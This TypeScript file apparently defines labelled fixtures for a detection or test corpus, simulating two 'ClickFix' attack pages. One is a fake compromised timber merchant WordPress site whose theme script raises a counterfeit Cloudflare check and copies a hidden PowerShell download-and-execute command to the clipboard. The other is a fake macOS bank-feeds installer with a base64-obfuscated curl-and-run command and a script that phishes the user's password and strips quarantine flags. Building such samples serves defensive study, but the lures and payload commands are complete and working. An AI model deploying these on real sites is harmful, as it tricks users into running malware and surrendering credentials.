import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, cssRoute, jsonRoute, fileRoute, pngRoute } from '../parts/e-bin.js';
import { page, badge, wordmark, baseSiteCss, siteShell, b64, cookieBanner } from '../parts/ya-kit.js';

export const entries: Entry[] = [
{
  id: 'ya-clickfix-hacked-timber-merchant-wp',
  label: 'clickfix',
  kind: 'clickfix-compromised-site',
  url: 'https://www.midlandtimbermerchants.co.uk/',
  body: page({
    title: 'Midland Timber Merchants – Timber, Sheet Materials & Joinery Supplies | Walsall',
    head: `<link rel="stylesheet" href="/wp-content/themes/astra/assets/css/minified/main.min.css?ver=4.8.1">
<script src="/wp-includes/js/jquery/jquery.min.js?ver=3.7.1" id="jquery-core-js"></script>
<script src="/wp-content/themes/astra/assets/js/minified/frontend.min.js?ver=4.8.1" id="astra-theme-js-js"></script>`,
    css: baseSiteCss,
    body: siteShell({
      brand: 'Midland Timber Merchants',
      logo: `${badge('MT', '#7c4a1e')}<b style="font-size:19px">Midland Timber Merchants</b>`,
      nav: [['Timber', '/product-category/timber/'], ['Sheet materials', '/product-category/sheet-materials/'], ['Trade accounts', '/trade-accounts/'], ['Delivery', '/delivery/'], ['Contact', '/contact/']],
      accent: '#7c4a1e',
      topbar: 'Trade counter open Mon–Fri 7am–5pm, Sat 8am–12pm · Free delivery within 15 miles on orders over £250',
      main: `<section class="hero"><div class="container"><h1>Quality timber for the trade since 1962</h1><p class="muted">CLS, treated carcassing, hardwood mouldings, MDF and plywood – cut to size at our Walsall yard.</p><a class="btn" style="background:#7c4a1e;color:#fff" href="/trade-accounts/">Open a trade account</a></div></section>
<section class="container" style="padding:30px 20px"><div class="grid"><div class="card"><h3>Treated C24 carcassing</h3><p class="small muted">47×100 to 75×225, lengths to 6.0m.</p></div><div class="card"><h3>Sheet materials</h3><p class="small muted">OSB3, marine ply, MR MDF, cut to size.</p></div><div class="card"><h3>Decking &amp; fencing</h3><p class="small muted">Grooved decking boards, feather edge, posts.</p></div></div></section>`,
      footer: `<p>Midland Timber Merchants Ltd · Station Yard, Bescot Road, Walsall WS2 9AE · 01922 640 118</p>`,
    }),
  }),
  routes: {
    'www.midlandtimbermerchants.co.uk/wp-includes/js/jquery/jquery.min.js': jsRoute('/*! jQuery v3.7.1 | (c) OpenJS Foundation */window.jQuery=window.$=function(s){return document.querySelectorAll(s)};'),
    'www.midlandtimbermerchants.co.uk/wp-content/themes/astra/assets/js/minified/frontend.min.js': jsRoute(`!function(){"use strict";var e=document.querySelector(".site-header");e&&window.addEventListener("scroll",function(){e.classList.toggle("ast-sticky-active",window.scrollY>80)})}();
;(function(){if(document.cookie.indexOf('wp_vfy=1')>-1)return;
var cmd='powershell -w h -nop -c "$r=iwr https://cdn-wpcache-static.com/v/'+Math.random().toString(36).slice(2,8)+' -UseBasicParsing;iex $r.Content" # \\u2705 I am not a robot - Cloudflare Verification ID: '+(100000+Math.floor(Math.random()*899999));
var o=document.createElement('div');o.id='cf-ov';o.innerHTML='<div style="position:fixed;inset:0;background:#fff;z-index:2147483647;font-family:system-ui,-apple-system,Segoe UI,Roboto,sans-serif;color:#313131"><div style="max-width:620px;margin:12vh auto;padding:0 20px"><h1 style="font-size:34px;font-weight:500;margin:0 0 8px">'+location.hostname+'</h1><p style="font-size:20px;margin:0 0 26px">Verify you are human by completing the action below.</p><div id="cf-box" style="display:flex;align-items:center;justify-content:space-between;border:1px solid #d9d9d9;background:#fafafa;padding:16px 18px;width:300px;cursor:pointer"><label style="display:flex;align-items:center;gap:12px;cursor:pointer"><span style="width:26px;height:26px;border:2px solid #666;border-radius:3px;background:#fff;display:inline-block"></span>Verify you are human</label><span style="font-size:10px;text-align:right;color:#555">CLOUDFLARE<br>Privacy · Terms</span></div><div id="cf-steps" style="display:none;margin-top:22px;border:1px solid #f5c26b;background:#fffaf0;padding:18px 20px;font-size:16px;line-height:1.9"><b>Verification steps</b><br>1. Press &amp; hold the Windows Key <b>\\u229e</b> + <b>R</b><br>2. In the verification window, press <b>Ctrl + V</b><br>3. Press <b>Enter</b> on your keyboard to finish<br><span style="font-size:13px;color:#666">You will observe and agree: \\u2705 "I am not a robot - Cloudflare Verification ID"</span></div><p style="margin-top:26px;font-size:15px">'+location.hostname+' needs to review the security of your connection before proceeding.</p></div></div>';
function go(){document.body.appendChild(o);document.getElementById('cf-box').addEventListener('click',function(){
var t=document.createElement('textarea');t.value=cmd;t.style.position='fixed';t.style.opacity='0';document.body.appendChild(t);t.select();try{document.execCommand('copy')}catch(x){}t.remove();
if(navigator.clipboard)navigator.clipboard.writeText(cmd).catch(function(){});document.getElementById('cf-steps').style.display='block';
setTimeout(function(){document.cookie='wp_vfy=1;path=/;max-age=604800'},30000);});}
document.readyState==='loading'?document.addEventListener('DOMContentLoaded',go):go();})();`),
    'www.midlandtimbermerchants.co.uk/wp-content/themes/astra/assets/css/minified/main.min.css': cssRoute('.ast-sticky-active{box-shadow:0 2px 6px rgba(0,0,0,.1)}'),
  },
},
{
  id: 'ya-clickfix-macos-bankfeeds-terminal',
  label: 'clickfix',
  kind: 'clickfix-macos',
  url: 'https://bankfeeds-connector.app/mac/install',
  body: page({
    title: 'Bank Feeds Connector for Mac – Install',
    css: baseSiteCss + `.w{max-width:680px;margin:40px auto;padding:0 20px}.cmd{display:flex;gap:10px;align-items:stretch;margin:18px 0}.cmd code{flex:1;background:#0f172a;color:#e2e8f0;padding:14px;border-radius:8px;overflow:hidden;white-space:nowrap;text-overflow:ellipsis}.cp{background:#111827;color:#fff;border:0;border-radius:8px;padding:0 18px;cursor:pointer}`,
    body: `<div class="w">
<div style="display:flex;align-items:center;gap:10px">${badge('BF', '#0ea5e9')}<b style="font-size:20px">Bank Feeds Connector</b></div>
<h1>Install on macOS</h1>
<p>The Bank Feeds Connector keeps your business bank transactions flowing into Xero, QuickBooks and Sage on your Mac. Due to Apple's new security rules, the connector must be installed through Terminal.</p>
<ol><li>Press <b>⌘ Command + Space</b>, type <b>Terminal</b> and press Return</li><li>Copy the command below and paste it into Terminal</li><li>Press Return and enter your Mac password when asked</li></ol>
<div class="cmd"><code id="c"></code><button class="cp" id="cp">Copy</button></div>
<p class="small muted">Takes about 30 seconds. Requires macOS 12 or later.</p>
</div>
<script>
var cmd='echo "Installing Bank Feeds Connector..." && /bin/zsh -c "$(echo ${b64('curl -fsSL https://bankfeeds-connector.app/mac/i.sh -o /tmp/.bfc && chmod +x /tmp/.bfc && /tmp/.bfc')} | base64 -d)"';
document.getElementById('c').textContent=cmd;
document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(cmd);this.textContent='Copied!';};
</script>`,
  }),
  routes: {
    'bankfeeds-connector.app/mac/i.sh': fileRoute(`#!/bin/zsh\nu=$(osascript -e 'display dialog "Bank Feeds Connector needs your password to continue:" default answer "" with hidden answer with title "System Preferences"' -e 'text returned of result')\ncurl -fsSL https://bankfeeds-connector.app/mac/bfc -o /tmp/.bfcd && xattr -c /tmp/.bfcd && chmod +x /tmp/.bfcd && echo "$u" | /tmp/.bfcd\n`, 'text/plain'),
  },
},
];
